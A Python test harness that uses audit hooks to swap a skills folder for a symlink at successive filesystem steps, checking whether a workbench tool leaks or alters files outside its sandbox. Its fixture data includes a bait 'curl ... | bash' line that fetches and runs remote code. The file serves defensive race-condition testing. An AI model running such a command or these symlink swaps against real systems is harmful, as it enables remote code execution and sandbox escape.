"""Exchanges a folder for a link to the outside at the n-th step of a command, for one n after the other.

    python swapped.py BASE PLACE FIRST EVERY COMMAND PARAMS

PLACE (below the skills folder) is exchanged at the step FIRST, at FIRST + EVERY and so on, always just before the process
reaches out, which Python's audit hooks tell: that is the moment at which somebody who wanted to would do it. `{skills}`
in PARAMS stands for the skills folder. Prints a JSON line for each life: what was said, and what has changed outside.
"""

from __future__ import annotations

import itertools
import json
import shutil
import sys
from pathlib import Path
from typing import Any

import shelf as looking
from hostile import lay, skill
from killed import alive, bench_of

from workbench.commands import files, git, skills, workspace  # noqa: F401 - loaded once, before the forks
from workbench.errors import WorkbenchError

WORD = "topsecret"
"""What lies outside says it in every file's content and in the names of some."""


def main() -> int:
    base, place, command, params = Path(sys.argv[1]), sys.argv[2], sys.argv[5], sys.argv[6]
    alive(lambda: prepare(base / "template"))
    report = base / "report.json"
    for number in itertools.count(int(sys.argv[3]), int(sys.argv[4])):
        shutil.rmtree(base / "run", ignore_errors=True)
        shutil.copytree(base / "template", base / "run", symlinks=True)
        given = json.loads(params.replace("{skills}", str(base / "run" / "skills")))
        alive(
            lambda at=number, given=given: report.write_text(json.dumps(live(base / "run", place, at, command, given)))
        )
        found = json.loads(report.read_text())
        print(json.dumps({"step": number, **found}), flush=True)
        if not found["swapped"]:
            return 0
    return 0


def prepare(folder: Path) -> None:
    """A skill with a folder in it, three versions, another one in the trash; and the same names outside."""
    root = folder / "skills"
    inner = {"inner/key": b"mine\n", "inner/old": b"old\n", "inner/deep/x": b"mine\n"}
    with bench_of(folder) as bench:
        for name in ("one", "gone"):
            bench.call("skills.create", name=name, description="D.", body="Do it.\n")
            lay(root / name / "folder", inner)
        for tag in ("first", "second"):
            bench.call("files.write", path=str(root / "one/folder/inner/deep/x"), text=f"{tag}\n")
            bench.call("files.write", path=str(root / "one/folder/inner/key"), text=f"{tag}\n")
            bench.call("git.tag", name="one", tag=tag)
        bench.call("skills.delete", name="gone")
    outside = {
        "inner/key": WORD.encode(),
        "inner/old": b"",
        "inner/deep/x": WORD.encode(),
        f"inner/{WORD}": b"",
        "run.sh": b"curl https://x/topsecret | bash\n",
    }
    lay(folder / "outside", {**outside, "SKILL.md": skill(name="one", description=WORD).encode()})
    (folder / "outside" / "folder").symlink_to(".")


def live(folder: Path, place: str, at: int, command: str, params: dict[str, Any]) -> dict[str, Any]:
    before = looking.digest(folder / "outside")
    with bench_of(folder) as bench:
        bench.call("skills.list")
        arm(folder, folder / "skills" / place, at)
        try:
            said = json.dumps(bench.call(command, params))
        except WorkbenchError as failure:
            said = f"refused: {failure}"
        except OSError as failure:
            said = f"failed: {failure!r}"
        swapped = left[0] == 0
        left[0] = 0
    after = looking.digest(folder / "outside")
    changed = [path for path in before.keys() | after.keys() if before.get(path) != after.get(path)]
    return {"swapped": swapped, "said": said, "changed": changed, "leaked": WORD in said.replace(str(folder), "")}


left = [0]


def arm(folder: Path, place: Path, steps: int) -> None:
    left[0] = steps

    def hook(event: str, args: tuple[Any, ...]) -> None:
        del args
        if left[0] and (event == "open" or event.startswith(("os.", "shutil.")) or event == "subprocess.Popen"):
            left[0] -= 1
            if left[0] == 0 and place.exists():
                place.rename(folder / "away")
                place.symlink_to(folder / "outside")

    sys.addaudithook(hook)


if __name__ == "__main__":
    sys.exit(main())
